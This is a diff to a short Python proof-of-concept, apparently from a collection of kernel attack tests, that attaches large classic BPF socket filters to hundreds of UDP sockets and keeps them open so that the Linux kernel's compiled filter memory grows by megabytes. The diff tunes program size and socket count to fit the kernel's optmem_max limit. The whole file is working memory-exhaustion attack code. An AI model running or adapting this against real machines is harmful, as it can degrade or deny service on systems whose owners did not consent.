@@ -6,6 +6,8 @@
 # oracle: the kernel's compiled programs, counted from outside, grew by megabytes
 # status: ok
 # credit: ENOPROTOOPT
+# options: --open-files 1024
+# note: a program may have no more instructions: net.core.optmem_max was 20 KiB until Linux 6.8.
 import ctypes
 import errno
 import socket
@@ -14,11 +16,11 @@ import struct
 from attack import hold, tell
 
 ADD, KEEP = struct.pack("HBBI", 0x04, 0, 0, 0x12345), struct.pack("HBBI", 0x06, 0, 0, 0xFFFF)
-code = ctypes.create_string_buffer(ADD * 4095 + KEEP)
-program = struct.pack("HxxxxxxQ", 4096, ctypes.addressof(code))
+code = ctypes.create_string_buffer(ADD * 1999 + KEEP)
+program = struct.pack("HxxxxxxQ", 2000, ctypes.addressof(code))
 kept = []
 try:
-    for _ in range(200):
+    for _ in range(500):
         end = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
         end.setsockopt(socket.SOL_SOCKET, 26, program)
         kept.append(end)
